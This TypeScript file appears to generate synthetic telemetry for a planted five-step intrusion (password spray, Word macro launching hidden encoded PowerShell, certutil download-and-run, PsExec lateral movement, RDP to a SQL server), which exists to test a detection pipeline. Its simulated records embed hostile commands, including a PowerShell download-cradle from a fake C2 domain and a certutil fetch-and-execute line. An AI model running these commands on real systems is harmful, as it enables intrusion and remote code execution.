/**
 * The attack planted on the last day, as one intrusion told in five steps, each written
 * as the same raw records real agents and sensors would produce:
 *
 *  1. password_spray: an unmanaged VPN device tries one password against many accounts at
 *     a domain controller (4625, 0xc000006d/0xc000006a) and one of them works (4624).
 *  2. rare_parent_child: a user opens a mail attachment; Word starts an encoded
 *     PowerShell, which drops a DLL in %TEMP% and runs it with rundll32 (Run-key
 *     persistence, beaconing to a new external address).
 *  3. lolbin_download: the implant uses certutil to download a tool and runs it.
 *  4. lateral_movement: PsExec-style service install on another workstation (4624 type 3,
 *     7045 PSEXESVC, services.exe → PSEXESVC.exe → cmd.exe), a host pair never seen before.
 *  5. first_time_server_logon: the sprayed account RDPs to the SQL server it never used.
 *
 * Every step lists the keys (same formats as the count stage: lower-case basenames, short
 * lower-case hosts, full lower-case image paths, `sha256:` hashes, IP pairs) a rarity
 * pipeline should flag.
 */
import { customImage, hashesOf } from './catalog.js';
import type { Host, User } from './enterprise.js';
import { Rng } from './random.js';
import { ensureApp, ensureSession } from './sessions.js';
import { sysmonFileCreate, sysmonRegistry, systemServiceInstall } from './windows-records.js';
import type { Identity, Proc, World } from './world.js';

export interface PlantedKey {
  kind: 'process_image' | 'parent_child' | 'logon' | 'host_pair' | 'process_hash';
  key: string;
}

export interface PlantedStep {
  name: string;
  description: string;
  /** Short lower-case host name where the step is seen. */
  host: string;
  user?: string;
  keys: PlantedKey[];
  /** Index of the day (0-based) and the UTC time of the step's first record. */
  day: number;
  at: string;
}

interface Scheduled {
  ms: number;
  run: (w: World) => void;
}

export const C2_IP = '175.16.199.23';
export const C2_DOMAIN = 'cdn-update-ms.com';
export const DOWNLOAD_IP = '175.16.199.45';
export const SPRAY_IP = '10.99.3.77';

const lc = (h: Host): string => h.name.toLowerCase();

/** UTC instant in [dayStart, dayStart + 24h) whose local clock reads `localMinute`. */
function atLocal(dayStart: number, offsetMs: number, localMinute: number): number {
  const day = 86_400_000;
  const localOfStart = (((dayStart + offsetMs) % day) + day) % day;
  return dayStart + ((((localMinute * 60_000 - localOfStart) % day) + day) % day);
}

function utf16Base64(text: string): string {
  return Buffer.from(text, 'utf16le').toString('base64');
}

/** Picks the cast and schedules the steps; returns what the manifest records. */
export function planAttack(w: World, rng: Rng, day: number, dayStart: number): { steps: PlantedStep[]; schedule: Scheduled[] } {
  const ent = w.ent;
  const adminDesks = new Set(ent.admins.map((a) => a.workstation.index));
  const quietDesks = ent.workstations.filter((h) => !adminDesks.has(h.index));
  const wsA = quietDesks[rng.int(quietDesks.length)] as Host;
  const others = quietDesks.filter((h) => h !== wsA);
  const wsC = others[rng.int(others.length)] as Host;
  const staff = ent.users.filter((u) => !u.isAdmin);
  const phished = staff.find((u) => u.workstation === wsA) as User;
  const sprayable = staff.filter((u) => u.workstation !== wsA && u.workstation !== wsC);
  const victim = sprayable[rng.int(sprayable.length)] as User;
  const dc = w.rt(ent.dcs[0] as Host);
  const sql = ent.byRole('sql');
  const off = ent.utcOffsetMinutes * 60_000;
  const t1 = atLocal(dayStart, off, 8 * 60 + 47);
  const t2 = atLocal(dayStart, off, 10 * 60 + 5);
  const t3 = t2 + 36 * 60_000;
  const t4 = t2 + 85 * 60_000;
  const t5 = atLocal(dayStart, off, 13 * 60 + 15);
  const iso = (ms: number): string => new Date(ms).toISOString();
  const aIp = wsA.ip;

  const dropped = customImage('svchelper.exe', 'C:\\Users\\Public\\svchelper.exe');
  const psexesvc = customImage('psexesvc.exe', 'C:\\Windows\\PSEXESVC.exe', 'PsExec Service', 'Sysinternals - www.sysinternals.com');
  let implant: Proc | undefined;
  let tool: Proc | undefined;

  const steps: PlantedStep[] = [
    {
      name: 'password_spray', day, at: iso(t1), host: lc(dc.host), user: victim.sam,
      description: `${SPRAY_IP} (unmanaged VPN device) tried one password against 40 accounts on ${dc.host.name} in 3 minutes; ${victim.sam} succeeded`,
      keys: [{ kind: 'host_pair', key: `${SPRAY_IP}>${dc.host.ip}` }],
    },
    {
      name: 'rare_parent_child', day, at: iso(t2), host: lc(wsA), user: phished.sam,
      description: `winword.exe → powershell.exe -enc → rundll32.exe %TEMP%\\msupd.dll on ${wsA.name}, beaconing to ${C2_IP}`,
      keys: [
        { kind: 'parent_child', key: 'winword.exe>powershell.exe' },
        { kind: 'parent_child', key: 'powershell.exe>rundll32.exe' },
        { kind: 'host_pair', key: `${aIp}>${C2_IP}` },
      ],
    },
    {
      name: 'lolbin_download', day, at: iso(t3), host: lc(wsA), user: phished.sam,
      description: `certutil.exe -urlcache downloads and runs C:\\Users\\Public\\svchelper.exe from ${DOWNLOAD_IP} on ${wsA.name}`,
      keys: [
        { kind: 'parent_child', key: 'cmd.exe>certutil.exe' },
        { kind: 'process_image', key: 'c:\\windows\\system32\\certutil.exe' },
        { kind: 'process_image', key: dropped.path.toLowerCase() },
        { kind: 'process_hash', key: `sha256:${hashesOf(dropped).sha256}` },
        { kind: 'host_pair', key: `${aIp}>${DOWNLOAD_IP}` },
      ],
    },
    {
      name: 'lateral_movement', day, at: iso(t4), host: lc(wsC), user: victim.sam,
      description: `PsExec-style service PSEXESVC installed on ${wsC.name} from ${wsA.name} as ${victim.sam}`,
      keys: [
        { kind: 'host_pair', key: `${aIp}>${wsC.ip}` },
        { kind: 'logon', key: `${victim.sam}@${lc(wsC)}` },
        { kind: 'parent_child', key: 'services.exe>psexesvc.exe' },
        { kind: 'parent_child', key: 'psexesvc.exe>cmd.exe' },
        { kind: 'process_image', key: psexesvc.path.toLowerCase() },
        { kind: 'process_hash', key: `sha256:${hashesOf(psexesvc).sha256}` },
      ],
    },
    {
      name: 'first_time_server_logon', day, at: iso(t5), host: lc(sql), user: victim.sam,
      description: `${victim.sam} logged on to ${sql.name} over RDP (type 10) from ${wsA.name} for the first time`,
      keys: [
        { kind: 'logon', key: `${victim.sam}@${lc(sql)}` },
        { kind: 'host_pair', key: `${aIp}>${sql.ip}` },
      ],
    },
  ];

  const schedule: Scheduled[] = [
    { ms: t1, run: (wd) => spray(wd, t1, victim, dc.host) },
    {
      ms: t2, run: (wd) => {
        implant = phish(wd, t2, phished, wsA);
      },
    },
    {
      ms: t3, run: (wd) => {
        tool = lolbin(wd, t3, phished, wsA, implant as Proc, dropped);
      },
    },
    { ms: t4, run: (wd) => lateral(wd, t4, victim, wsA, wsC, tool as Proc, psexesvc) },
    { ms: t5, run: (wd) => rdpToServer(wd, t5, phished, victim, wsA, sql) },
  ];
  return { steps, schedule };
}

function spray(w: World, t: number, victim: User, dcHost: Host): void {
  const dc = w.rt(dcHost);
  const targets = w.ent.users.filter((u) => u !== victim).slice(0, 39);
  const names = [...targets.map((u) => u.sam), 'administrator', 'backup', 'test'];
  names.splice(26, 0, victim.sam);
  let ms = t;
  for (const name of names.slice(0, 43)) {
    const port = w.port();
    w.wire(ms, { origH: SPRAY_IP, origP: port, respH: dcHost.ip, respP: 445, proto: 'tcp', service: 'smb,gssapi,ntlm', bytesOut: 1800, bytesIn: 1200, duration: 0.02 + w.rng.next() * 0.05 });
    const known = w.ent.users.some((u) => u.sam === name);
    if (name === victim.sam) {
      w.logon(dc, ms + 15, {
        logonType: 3, targetUser: victim.sam, targetDomain: w.ent.netbiosDomain, targetSid: victim.sid, ipAddress: SPRAY_IP, ipPort: String(port),
        workstation: 'DESKTOP-8K2L1QF', package: 'NTLM', elevated: false,
      }, false);
    } else {
      w.logonFailed(dc, ms + 15, {
        logonType: 3, targetUser: name, targetDomain: w.ent.netbiosDomain, ipAddress: SPRAY_IP, ipPort: String(port), workstation: 'DESKTOP-8K2L1QF',
        status: '0xc000006d', subStatus: known ? '0xc000006a' : '0xc0000064', package: 'NTLM',
      });
    }
    ms += 3000 + w.rng.int(2000);
  }
}

function phish(w: World, t: number, user: User, ws: Host): Proc {
  const rt = w.rt(ws);
  const s = ensureSession(w, user, t);
  const outlook = ensureApp(w, rt, s, 'outlook.exe', t);
  const doc = `C:\\Users\\${user.sam}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7Z2KD1M\\Invoice_0423.docm`;
  w.buffer.windows(t, sysmonFileCreate(rt, t, w.delay(), outlook, doc));
  const word = w.spawn(rt, t + 20_000, outlook, 'winword.exe', `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${doc}" /o ""`, s.identity);
  const script = `IEX (New-Object Net.WebClient).DownloadString('https://${C2_DOMAIN}/s/a'); Start-Sleep 3`;
  const ps = w.spawn(rt, t + 45_000, word, 'powershell.exe', `powershell.exe -nop -w hidden -enc ${utf16Base64(script)}`, s.identity);
  w.resolve(rt, t + 46_000, ps, { name: C2_DOMAIN, ip: C2_IP });
  w.connect(rt, t + 46_300, ps, C2_IP, 443, 'ssl', { bytesIn: 180_000 });
  const dll = `C:\\Users\\${user.sam}\\AppData\\Local\\Temp\\msupd.dll`;
  w.buffer.windows(t + 50_000, sysmonFileCreate(rt, t + 50_000, w.delay(), ps, dll));
  const implant = w.spawn(rt, t + 52_000, ps, 'rundll32.exe', `"C:\\Windows\\system32\\rundll32.exe" ${dll},DllRegisterServer`, s.identity);
  w.buffer.windows(t + 55_000, sysmonRegistry(rt, t + 55_000, w.delay(), implant, 'SetValue',
    `HKU\\${user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\MsUpdate`, `rundll32.exe "${dll}",DllRegisterServer`));
  // The implant beacons about once a minute for the next half hour.
  let ms = t + 60_000;
  for (let i = 0; i < 30; i++) {
    w.connect(rt, ms, implant, C2_IP, 443, 'ssl', { bytesOut: 400 + w.rng.int(200), bytesIn: 300 + w.rng.int(300) });
    ms += 50_000 + w.rng.int(20_000);
  }
  return implant;
}

function lolbin(w: World, t: number, user: User, ws: Host, implant: Proc, dropped: ReturnType<typeof customImage>): Proc {
  const rt = w.rt(ws);
  const who = ensureSession(w, user, t).identity;
  const url = `http://${DOWNLOAD_IP}/files/svchelper.exe`;
  const cmd = w.spawn(rt, t, implant, 'cmd.exe', `C:\\Windows\\system32\\cmd.exe /c certutil.exe -urlcache -split -f ${url} ${dropped.path} && ${dropped.path}`, who);
  const certutil = w.spawn(rt, t + 150, cmd, 'certutil.exe', `certutil.exe  -urlcache -split -f ${url} ${dropped.path}`, who);
  w.connect(rt, t + 400, certutil, DOWNLOAD_IP, 80, 'http', { bytesIn: 412_672 });
  w.buffer.windows(t + 1800, sysmonFileCreate(rt, t + 1800, w.delay(), certutil, dropped.path));
  return w.spawn(rt, t + 2500, cmd, dropped, dropped.path, who);
}

function lateral(w: World, t: number, victim: User, from: Host, to: Host, tool: Proc, psexesvc: ReturnType<typeof customImage>): void {
  const src = w.rt(from);
  const dst = w.rt(to);
  w.connect(src, t, tool, to.ip, 445, 'smb', { bytesOut: 420_000, bytesIn: 9_000 });
  w.logon(dst, t + 200, {
    logonType: 3, targetUser: victim.sam, targetDomain: w.ent.netbiosDomain, targetSid: victim.sid, ipAddress: from.ip, ipPort: String(w.port()),
    workstation: from.name, package: 'NTLM', elevated: true,
  }, true);
  w.buffer.windows(t + 900, sysmonFileCreate(dst, t + 900, w.delay(), dst.system, psexesvc.path));
  w.buffer.windows(t + 1200, systemServiceInstall(dst, t + 1200, w.delay(), 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe', { name: victim.sam, domain: w.ent.netbiosDomain, sid: victim.sid }));
  const svc = w.spawn(dst, t + 1500, dst.services, psexesvc, 'C:\\Windows\\PSEXESVC.exe', dst.systemIdentity);
  const who: Identity = { account: `${w.ent.netbiosDomain}\\${victim.sam}`, logonId: w.logonId(), logonGuid: w.logonGuid(to), sessionId: '0', integrity: 'High', profile: victim.sam };
  const cmd = w.spawn(dst, t + 2200, svc, 'cmd.exe', '"cmd.exe" ', who);
  w.spawn(dst, t + 9000, cmd, 'whoami.exe', 'whoami  /all', who);
  w.spawn(dst, t + 15_000, cmd, 'net.exe', 'net  localgroup administrators', who);
}

function rdpToServer(w: World, t: number, operator: User, victim: User, from: Host, server: Host): void {
  const rt = w.rt(from);
  const s = ensureSession(w, operator, t);
  const mstsc = w.spawn(rt, t, s.explorer, 'mstsc.exe', `"C:\\Windows\\system32\\mstsc.exe" /v:${server.name}`, s.identity);
  w.connect(rt, t + 400, mstsc, server.ip, 3389, 'ssl', { bytesIn: 2_400_000 });
  w.logon(w.rt(server), t + 2500, {
    logonType: 10, targetUser: victim.sam, targetDomain: w.ent.netbiosDomain, targetSid: victim.sid, ipAddress: from.ip, ipPort: '0',
    workstation: server.name, package: 'Negotiate', elevated: false,
    subject: { user: `${server.name}$`, domain: w.ent.netbiosDomain, sid: 'S-1-5-18', logonId: '0x3e7', processName: 'C:\\Windows\\System32\\svchost.exe', processId: '0x4c4' },
  }, false);
}
